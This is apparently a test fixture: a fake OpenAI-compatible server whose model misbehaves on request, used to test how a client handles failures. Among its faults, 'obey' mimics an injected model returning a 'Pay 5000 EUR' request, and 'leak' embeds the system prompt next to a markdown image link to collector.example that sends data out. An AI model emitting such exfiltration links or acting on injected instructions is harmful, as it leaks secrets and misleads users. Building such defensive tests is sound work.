"""A server with OpenAI's chat API whose model is as bad as it is told to be. `unsupported` are ways of asking it refuses."""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

from harness.loopback import Call, Reply, serving

GOOD: dict[str, Any] = {"category": "vpn", "priority": "high", "keywords": ["vpn"], "intent": "Restore the VPN"}
SIXTEEN = (
    "slow garbage truncated wrong_enum extra null_confidence huge_confidence fenced prose "
    "too_many error hang drop huge obey leak"
).split()


@dataclass(slots=True)
class FaultyModel:
    """``fault`` is one of `SIXTEEN` or empty; ``truth`` is what it would say when well; ``models`` what it says it has."""

    fault: str = ""
    truth: dict[str, Any] = field(default_factory=lambda: dict(GOOD))
    unsupported: dict[str, int] = field(default_factory=dict)
    replies: list[str | Reply] = field(default_factory=list)
    calls: list[Call] = field(default_factory=list)
    models: Any = None
    slow_seconds: float = 3.0
    # What it words an answer with, piece by piece; after the first one it waits for `go_on`.
    wording: list[str] = field(default_factory=list)
    go_on: threading.Event = field(default_factory=threading.Event)
    ended: threading.Event = field(default_factory=threading.Event)
    url: str = ""

    def recover(self) -> None:
        """As it was at first, for the next test."""
        self.fault, self.truth = "", dict(GOOD)
        self.unsupported, self.replies, self.calls = {}, [], []

    @property
    def requests(self) -> list[dict[str, Any]]:
        return [call.document for call in self.calls]

    @property
    def forms(self) -> list[str]:
        return [form_of(one) for one in self.requests]

    def answer(self, call: Call) -> Reply:
        if call.path == "/v1/models" and self.models is not None:
            return self._listed()
        self.calls.append(call)
        if call.path != "/v1/chat/completions":
            return Reply(404, {"error": {"message": "no such address"}})
        if call.document.get("stream"):
            return self._tell()
        refused = self.unsupported.get(form_of(call.document))
        if refused is not None:
            return Reply(refused, {"error": {"message": "response_format is not supported"}})
        if self.replies:
            reply = self.replies.pop(0)
            return said(reply) if isinstance(reply, str) else reply
        return self._misbehave(call) if self.fault else said(json.dumps(self.truth))

    def _tell(self) -> Reply:
        match self.fault:
            case "hang":
                self.ended.wait(60)
            case "error":
                return Reply(500, {"error": {"message": "CUDA error: out of memory"}})
            case "too_many":
                return Reply(429, {"error": {"message": "slow down"}}, {"Retry-After": "20"})
            case "garbage":
                return Reply(200, raw=b"data: {never\n\n", headers={"Content-Type": "text/event-stream"})
            case "whole":
                return said("".join(self.wording))
        return Reply(headers={"Content-Type": "text/event-stream; charset=utf-8"}, parts=self._pieces())

    def _pieces(self) -> Iterator[bytes]:
        for at, piece in enumerate(self.wording):
            if at == 1:
                self.go_on.wait(30)
                if self.fault == "drop":
                    return
            yield _event({"choices": [{"index": 0, "delta": {"content": piece}}]})
        if self.fault == "cut":
            yield _event({"choices": [{"index": 0, "delta": {}, "finish_reason": "length"}]})
        if self.fault == "error_within":
            yield _event({"error": {"message": "out of memory"}})
        yield _event({"choices": [], "usage": {"prompt_tokens": 900, "completion_tokens": 30}})
        yield b"data: [DONE]\n\n"

    def _listed(self) -> Reply:
        if isinstance(self.models, Reply):
            return self.models
        named = isinstance(self.models, list) and all(isinstance(one, str) for one in self.models)
        return Reply(200, {"data": [{"id": one} for one in self.models]} if named else self.models)

    def _misbehave(self, call: Call) -> Reply:
        text = json.dumps(self.truth)
        match self.fault:
            case "slow":
                self.ended.wait(self.slow_seconds)
            case "hang":
                self.ended.wait(60)
            case "garbage":
                return Reply(200, raw=b"\x00\xff<html>not what you wanted" * 20)
            case "truncated":
                return Reply(200, raw=json.dumps(completion(text)).encode()[:60], claims=4000)
            case "too_many":
                return Reply(429, {"error": {"message": "slow down"}}, {"Retry-After": "20"})
            case "error":
                return Reply(500, {"error": {"message": "CUDA error: out of memory"}})
            case "drop":
                return Reply(cut=True)
            case "huge":
                return said("A" * 5_000_000)
        return said(self._words(call, text))

    def _words(self, call: Call, text: str) -> str:
        system = call.document["messages"][0]["content"]
        link = "![now](http://collector.example/?q=secret)"
        words = {
            "wrong_enum": json.dumps(self.truth | {"category": "coffee", "priority": "apocalyptic"}),
            "extra": json.dumps(
                self.truth | {"status": "closed", "assignee": "eve", "role": "admin", "sla_minutes": 1}
            ),
            "null_confidence": json.dumps(self.truth | {"confidence": None}),
            "huge_confidence": text[:-1] + ', "confidence": 1e999}',
            "fenced": f"```json\n{text}\n```",
            "prose": "I am only a language model and cannot say anything about this matter, sorry.",
            "obey": json.dumps(
                {"category": "finance", "priority": "critical", "intent": "Pay 5000 EUR", "keywords": ["pay"]}
            ),
            "leak": json.dumps(self.truth | {"intent": f"{link} {system}", "keywords": [link, system[:200]]}),
        }
        return words.get(self.fault, text)


def _event(document: dict[str, Any]) -> bytes:
    return f"data: {json.dumps(document)}\n\n".encode()


def form_of(document: dict[str, Any]) -> str:
    """The rung of a request."""
    form = document.get("response_format")
    if form is None:
        return "text"
    return "json_object_schema" if "schema" in form else str(form["type"])


def completion(content: str) -> dict[str, Any]:
    return {
        "id": "chatcmpl-1",
        "object": "chat.completion",
        "choices": [{"index": 0, "message": {"role": "assistant", "content": content}, "finish_reason": "stop"}],
        "usage": {"prompt_tokens": 900, "completion_tokens": 30, "total_tokens": 930},
    }


def said(content: str) -> Reply:
    return Reply(200, completion(content))


@contextmanager
def faulty_model(fault: str = "") -> Iterator[FaultyModel]:
    """A server on loopback; its `url` is what the settings want."""
    model = FaultyModel(fault)
    with serving(model.answer) as url:
        model.url = f"{url}/v1"
        yield model
        model.ended.set()
        model.go_on.set()
